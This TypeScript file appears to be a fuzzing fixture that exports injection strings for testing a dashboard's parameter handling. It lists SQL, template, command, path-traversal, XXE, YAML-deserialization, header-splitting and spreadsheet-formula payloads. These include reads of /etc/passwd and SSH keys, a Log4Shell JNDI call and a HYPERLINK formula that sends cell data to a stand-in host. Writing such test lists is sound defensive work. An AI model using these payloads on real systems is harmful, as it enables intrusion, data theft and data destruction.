// What would do something, were it a template, a query, a path, a format, a command or a formula.

const expressions = ['7*7', 'alert(1)', 'constructor.constructor("alert(1)")()', 'this', '__proto__', 'process.env'];
/** The brackets of many template languages. */
const brackets: [open: string, close: string][] = [
  ['${', '}'],
  ['{{', '}}'],
  ['{{{', '}}}'],
  ['{%', '%}'],
  ['#{', '}'],
  ['<%= ', ' %>'],
  ['[[', ']]'],
  ['@(', ')'],
  ['*{', '}'],
  ['$(', ')'],
  ['`${', '}`'],
];

const queries = [
  "1'; DROP TABLE messages--",
  '1" OR "1"="1',
  "' OR 1=1#",
  "') OR ('1'='1",
  "admin'--",
  "' UNION SELECT NULL,NULL,version()--",
  "'; EXEC xp_cmdshell('dir')--",
  "' AND SLEEP(5) AND '1'='1",
  "%00' OR 1=1--",
  '{"$gt":""}',
  '{"$where":"sleep(5000)"}',
  '*)(uid=*))(|(uid=*',
  "' or count(/*)=1 or 'a'='b",
];

const paths = [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  '/etc/passwd%00.html',
  'file:///etc/hostname',
  'C:\\CON\\NUL\\AUX',
  '\\\\a.test\\share',
  '~/.ssh/id_rsa',
  '.',
  '..',
  '/',
  '//',
  './asked-path',
  '?asked-query=1',
  '#asked-hash',
];

const addresses = [
  '//a.test/asked',
  'http://a.test:0/',
  'http://[::1',
  'http://user:secret@a.test/',
  'https://a.test\\@b.test',
  'http://a.test#@b.test/',
  'mailto:a@a.test?bcc=b@b.test',
  'tel:+1234567',
  'ftp://a.test/',
  'about:blank',
  'view-source:http://a.test',
  'data:text/html,<script>alert(1)</script>',
  'data:application/json,{"usage":[]}',
  'http://xn--',
  'http://ａ.test',
];

const formats = [
  '%s%s%s%s%n',
  '%x%x%x',
  '%d',
  '%c',
  '%o%O',
  '%1$s',
  '{0}',
  '{}',
  '{0.__class__}',
  '%%',
  "$1 $& $` $'",
  '\\0',
];

const commands = [
  '; cat /etc/passwd',
  '| id',
  '`id`',
  '$(id)',
  '&& ping -c 1 a.test',
  '() { :;}; echo vulnerable',
  '%COMSPEC%',
  '${jndi:ldap://a.test/a}',
  '${${lower:j}ndi:dns://a.test}',
];

const headers = [
  'a\r\nSet-Cookie: a=b',
  '%0d%0aSet-Cookie: a=b',
  'a\n\nHTTP/1.1 200 OK',
  'a\u560d\u560aSet-Cookie: a=b',
];

const starts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', ' =', "'=", '"='];
const formulas = [
  ...starts.map((start) => `${start}1+1`),
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://a.test?"&A1,"a")',
  '=IMPORTXML("http://a.test","//a")',
  '@SUM(1,1)',
  '-2+3+cmd|" /C calc"!D2',
  '"=1+1","=1+1"',
  'a,=1+1',
  'a;=1+1',
  'a\n=1+1',
];

const documents = [
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>',
  '{"__proto__":{"polluted":true}}',
  '{"usage":[{"message_id":1}]}',
  '"}]}',
  '\\"}]}',
  '{"a":1e400}',
  '!!python/object/apply:os.system ["id"]',
  'O:8:"stdClass":0:{}',
  'rO0ABXNyAA==',
  '*/alert(1)/*',
  '//]]>',
  "');alert(1);//",
  "\\');alert(1);//",
  ';}*{background:url(asked-css)}',
  'a{}@import url(asked-css);',
  '\\3c script\\3e',
];

/** What the URL parameter and the attributes of a dashboard understand, almost. */
const almostOurs = [
  'report_name:asc;credits_used:desc',
  'report_name:asc:desc',
  'report_name',
  ':',
  ';;;',
  ':asc;:desc',
  'constructor:asc',
  '__proto__:desc',
  'credits_used:DESC',
  'credits_used:desc;credits_used:asc',
  `${'credits_used:asc;'.repeat(500)}`,
  'Europe/London/../..',
  'Mars/Olympus',
  'Etc/GMT+99',
  'en-US-u-ca-<b>',
  'en-x-',
  'i-klingon-',
  'de-DE-'.repeat(60),
];

export const injections: readonly string[] = [
  ...brackets.flatMap(([open, close]) => expressions.map((expression) => open + expression + close)),
  ...queries,
  ...paths,
  ...addresses,
  ...formats,
  ...commands,
  ...headers,
  ...formulas,
  ...documents,
  ...almostOurs,
];
